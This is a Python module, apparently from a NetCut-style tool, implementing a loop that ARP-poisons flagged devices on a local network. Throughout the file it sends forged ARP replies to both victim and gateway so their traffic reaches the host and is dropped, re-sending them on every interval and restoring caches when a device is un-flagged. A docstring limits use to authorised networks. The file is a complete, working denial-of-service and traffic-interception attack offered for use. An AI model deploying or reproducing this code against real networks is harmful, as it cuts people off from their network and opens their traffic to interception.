"""
Killer - ARP poisoning loop for devices flagged as killed

Every tick the loop reads the Registry and, for each device whose killed
flag is set, sends two forged ARP replies:

- to the device, claiming the gateway's IP is at our MAC
- to the gateway, claiming the device's IP is at our MAC

Traffic between the two then reaches us and is not forwarded, which cuts
the device off. Caches expire and hosts re-ARP, so the replies are
re-sent on every tick for as long as the flag stays set.

The flag is the only stop signal and it is read once per tick: after a
device is un-killed it can receive up to one more interval of poisoning
before the loop notices and hands it to the Restorer.

WARNING: Only use on networks you are authorised to manage.
"""

import logging
import threading
from collections import defaultdict
from dataclasses import dataclass, field
from datetime import datetime
from typing import Callable, Dict, List, Optional

from config import settings
from core import frame_codec
from core.exceptions import TransportError
from core.link import LinkChannel
from core.network_utils import InterfaceInfo
from core.registry import DeviceRecord, DeviceRegistry
from attacks.restore import RestoreResult, Restorer

logger = logging.getLogger(__name__)

InterfaceProvider = Callable[[], Optional[InterfaceInfo]]
MacResolver = Callable[[str], Optional[str]]


@dataclass
class PoisonTarget:
    """A device poisoned on the most recent tick."""
    identity: str
    ip: str
    mac: str
    packets_sent: int = 0
    first_poisoned: Optional[datetime] = None
    last_poisoned: Optional[datetime] = None


@dataclass
class KillerStatistics:
    """Statistics for the poisoning loop."""
    total_packets_sent: int = 0
    failed_sends: int = 0
    poison_cycles: int = 0
    restorations: int = 0
    degraded_restorations: int = 0
    start_time: Optional[datetime] = None
    end_time: Optional[datetime] = None
    packets_per_target: Dict[str, int] = field(default_factory=dict)

    def to_dict(self) -> Dict:
        """Convert statistics to dictionary"""
        duration = 0.0
        if self.start_time and self.end_time:
            duration = (self.end_time - self.start_time).total_seconds()
        elif self.start_time:
            duration = (datetime.now() - self.start_time).total_seconds()

        return {
            'total_packets_sent': self.total_packets_sent,
            'failed_sends': self.failed_sends,
            'poison_cycles': self.poison_cycles,
            'restorations': self.restorations,
            'degraded_restorations': self.degraded_restorations,
            'duration_seconds': duration,
            'packets_per_second': self.total_packets_sent / duration if duration > 0 else 0,
            'packets_per_target': dict(self.packets_per_target)
        }


class Killer:
    """
    Periodic poisoning of killed devices, with restoration on un-kill.

    The Killer only reads the killed flag; setting and clearing it is up
    to the caller.
    """

    def __init__(
        self,
        registry: DeviceRegistry,
        channel: LinkChannel,
        interface_provider: InterfaceProvider,
        gateway_ip: Optional[str],
        gateway_mac_resolver: Optional[MacResolver] = None,
        interval: float = settings.SPOOF_INTERVAL,
        restorer: Optional[Restorer] = None,
    ):
        """
        Initialize the Killer.

        Args:
            registry: Source of killed flags and device addresses.
            channel: Shared link channel.
            interface_provider: Returns the current interface, or None once
                it is gone (the loop then exits).
            gateway_ip: Default gateway IPv4 address.
            gateway_mac_resolver: Fallback lookup when the Registry has not
                seen the gateway.
            interval: Seconds between poisoning cycles.
            restorer: Sends corrective replies when a device is un-killed.
        """
        self.registry = registry
        self.channel = channel
        self.interface_provider = interface_provider
        self.gateway_ip = gateway_ip
        self.gateway_mac_resolver = gateway_mac_resolver
        self.interval = interval
        self.restorer = restorer

        self.statistics = KillerStatistics()
        self.targets: Dict[str, PoisonTarget] = {}

        self._resolved_gateway_mac: Optional[str] = None
        self._resolution_attempted = False
        self._warned: set = set()

        self._running = False
        self._thread: Optional[threading.Thread] = None
        self._stop_event = threading.Event()
        self._tick_lock = threading.Lock()
        self._callbacks: Dict[str, List[Callable]] = defaultdict(list)

    def register_callback(self, event: str, callback: Callable):
        """Register a callback for events (poison_sent, restored)."""
        self._callbacks[event].append(callback)

    def _trigger_callback(self, event: str, *args, **kwargs):
        for callback in self._callbacks.get(event, []):
            try:
                callback(*args, **kwargs)
            except Exception as e:
                logger.error(f"Killer {event} callback error: {e}")

    def _warn_once(self, key: str, message: str):
        if key not in self._warned:
            self._warned.add(key)
            logger.warning(message)

    def gateway_mac(self) -> Optional[str]:
        """
        Gateway MAC from the Registry, else the resolver (tried once).

        Returns:
            MAC string, or None when unresolved.
        """
        if not self.gateway_ip:
            return None
        record = self.registry.find_by_ip(self.gateway_ip)
        if record is not None:
            return record.mac_address
        if self._resolved_gateway_mac:
            return self._resolved_gateway_mac
        if self.gateway_mac_resolver and not self._resolution_attempted:
            self._resolution_attempted = True
            mac = self.gateway_mac_resolver(self.gateway_ip)
            if mac:
                self._resolved_gateway_mac = frame_codec.normalize_mac(mac)
                return self._resolved_gateway_mac
        return None

    def _send(self, frame: frame_codec.Frame, target_ip: str) -> bool:
        try:
            self.channel.send(frame)
        except TransportError as e:
            self.statistics.failed_sends += 1
            logger.debug(f"Poison frame for {target_ip} not sent: {e}")
            return False
        self.statistics.total_packets_sent += 1
        self.statistics.packets_per_target[target_ip] = \
            self.statistics.packets_per_target.get(target_ip, 0) + 1
        return True

    def _poison(self, record: DeviceRecord, own_mac: str, gateway_mac: str) -> int:
        """Send the victim-side and gateway-side replies for one device."""
        to_victim = frame_codec.build_arp_reply(
            own_mac, self.gateway_ip, record.mac_address, record.ip_address
        )
        to_gateway = frame_codec.build_arp_reply(
            own_mac, record.ip_address, gateway_mac, self.gateway_ip
        )
        sent = 0
        sent += self._send(to_victim, record.ip_address)
        sent += self._send(to_gateway, self.gateway_ip)

        now = datetime.now()
        target = self.targets.get(record.identity)
        if target is None:
            target = PoisonTarget(record.identity, record.ip_address,
                                  record.mac_address, first_poisoned=now)
            self.targets[record.identity] = target
            logger.info(f"Poisoning {record.ip_address} ({record.mac_address})")
        target.ip = record.ip_address
        target.packets_sent += sent
        target.last_poisoned = now
        self._trigger_callback('poison_sent', record.ip_address, self.gateway_ip)
        return sent

    def _restore_target(self, target: PoisonTarget) -> Optional[RestoreResult]:
        if self.restorer is None:
            logger.info(f"Stopped poisoning {target.ip} (no restorer configured)")
            return None

        # The device may have moved since it was last poisoned
        record = self.registry.get(target.identity)
        victim_ip = record.ip_address if record else target.ip
        victim_mac = record.mac_address if record else None

        result = self.restorer.restore(victim_ip, victim_mac,
                                       self.gateway_ip, self.gateway_mac())
        self.statistics.restorations += 1
        if result.degraded:
            self.statistics.degraded_restorations += 1
        self._trigger_callback('restored', result)
        return result

    def tick(self) -> bool:
        """
        Run one poisoning cycle.

        Returns:
            False when the interface is no longer available and the loop
            should end.
        """
        with self._tick_lock:
            interface = self.interface_provider()
            if interface is None or not interface.is_valid():
                logger.warning("Interface information unavailable, stopping poisoning loop")
                return False
            own_mac = frame_codec.normalize_mac(interface.mac)

            killed = {record.identity: record for record in self.registry.killed()}

            for identity in [i for i in self.targets if i not in killed]:
                self._restore_target(self.targets.pop(identity))

            if not killed:
                return True

            if not self.gateway_ip:
                self._warn_once("no-gateway", "Gateway IP unknown, cannot poison killed devices")
                return True

            gateway_mac = self.gateway_mac()
            if gateway_mac is None:
                self._warn_once(
                    "gateway-mac",
                    f"Gateway {self.gateway_ip} MAC unresolved, poisoning it via broadcast"
                )
                gateway_mac = frame_codec.BROADCAST_MAC

            for record in killed.values():
                if record.ip_address == self.gateway_ip:
                    self._warn_once(f"gateway-killed-{record.identity}",
                                    f"Skipping {record.ip_address}: it is the gateway")
                    continue
                self._poison(record, own_mac, gateway_mac)

            self.statistics.poison_cycles += 1
            return True

    def restore_all(self) -> List[RestoreResult]:
        """Restore every device poisoned on the last tick."""
        results = []
        with self._tick_lock:
            for identity in list(self.targets):
                result = self._restore_target(self.targets.pop(identity))
                if result is not None:
                    results.append(result)
        return results

    def _poison_loop(self):
        logger.debug("Poison loop started")
        while not self._stop_event.is_set():
            if not self.tick():
                break
            self._stop_event.wait(self.interval)
        self._running = False
        logger.debug("Poison loop stopped")

    def start(self):
        """Start the poisoning loop"""
        if self._running:
            return
        self._running = True
        self._stop_event.clear()
        self.statistics.start_time = datetime.now()
        self._thread = threading.Thread(
            target=self._poison_loop,
            daemon=True,
            name="ARPPoisonThread"
        )
        self._thread.start()

    def stop(self, restore: bool = True) -> List[RestoreResult]:
        """
        Stop the poisoning loop

        Args:
            restore: If True, restore every still-poisoned device
        """
        self._stop_event.set()
        if self._thread and self._thread.is_alive():
            self._thread.join(timeout=self.interval + 2)
        self._running = False
        self.statistics.end_time = datetime.now()
        return self.restore_all() if restore else []

    def is_running(self) -> bool:
        return self._running

    def get_statistics(self) -> Dict:
        return self.statistics.to_dict()
